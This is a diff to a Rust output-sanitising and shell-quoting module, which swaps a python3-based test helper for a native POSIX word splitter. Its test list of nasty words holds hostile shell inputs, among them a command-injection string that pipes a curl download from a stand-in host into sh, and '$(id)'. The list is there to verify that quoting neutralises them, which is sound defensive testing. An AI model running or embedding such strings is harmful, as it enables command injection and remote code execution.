@@ -72,7 +72,7 @@ fn leading_colons(s: &str) -> Option<usize> {
 
 /// Whether the `#` at byte `i` is the second of `##[` or `##vso[` (GitHub's
 /// and Azure Pipelines' command prefixes, honoured anywhere in a line).
-fn command_hash(s: &str, i: usize) -> bool {
+pub(crate) fn command_hash(s: &str, i: usize) -> bool {
     let rest = &s[i + 1..];
     i > 0
         && s.as_bytes()[i - 1] == b'#'
@@ -185,7 +185,7 @@ mod tests {
     use super::*;
 
     /// One character of every class that must not reach a terminal raw.
-    pub(crate) const HOSTILE: &[char] = &[
+    const HOSTILE: &[char] = &[
         '\u{0}',
         '\u{7}',
         '\u{8}',
@@ -303,28 +303,37 @@ mod tests {
         assert_eq!(out, "abc");
     }
 
-    /// Splits `words` the way `sh` does, with python3's shlex (POSIX mode);
-    /// `None` when python3 is not installed.
-    fn shlex_split(line: &str) -> Option<Vec<String>> {
-        #[allow(clippy::disallowed_methods, clippy::disallowed_types)]
-        let out = std::process::Command::new("python3")
-            .args([
-                "-c",
-                "import json,shlex,sys; print(json.dumps(shlex.split(sys.stdin.read())))",
-            ])
-            .stdin(std::process::Stdio::piped())
-            .stdout(std::process::Stdio::piped())
-            .spawn()
-            .ok()
-            .and_then(|mut child| {
-                use std::io::Write as _;
-                child.stdin.take()?.write_all(line.as_bytes()).ok()?;
-                child.wait_with_output().ok()
-            })?;
-        serde_json::from_slice(&out.stdout).ok()
+    /// Splits a line into words the way POSIX `sh` does for the quoting
+    /// [`shell_quote`] uses (bare words, single quotes, backslash); `None` on
+    /// any character `sh` would treat as syntax outside quotes.
+    fn sh_words(line: &str) -> Option<Vec<String>> {
+        let mut words = Vec::new();
+        let mut word: Option<String> = None;
+        let mut chars = line.chars();
+        while let Some(c) = chars.next() {
+            match c {
+                ' ' => words.extend(word.take()),
+                '\'' => {
+                    let w = word.get_or_insert_with(String::new);
+                    loop {
+                        match chars.next()? {
+                            '\'' => break,
+                            c => w.push(c),
+                        }
+                    }
+                }
+                '\\' => word.get_or_insert_with(String::new).push(chars.next()?),
+                c if c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c) => {
+                    word.get_or_insert_with(String::new).push(c)
+                }
+                _ => return None,
+            }
+        }
+        words.extend(word);
+        Some(words)
     }
 
-    pub(crate) const NASTY_WORDS: &[&str] = &[
+    const NASTY_WORDS: &[&str] = &[
         "rg; curl https://x.example | sh; #",
         "a|b",
         "$(id)",
@@ -357,9 +366,6 @@ mod tests {
             want.push((*w).to_owned());
         }
         assert_eq!(shell_quote("rg-platform"), "rg-platform");
-        match shlex_split(&line) {
-            Some(got) => assert_eq!(got, want, "{line}"),
-            None => eprintln!("SKIPPED: python3 not found; shlex check not run"),
-        }
+        assert_eq!(sh_words(&line), Some(want), "{line}");
     }
 }
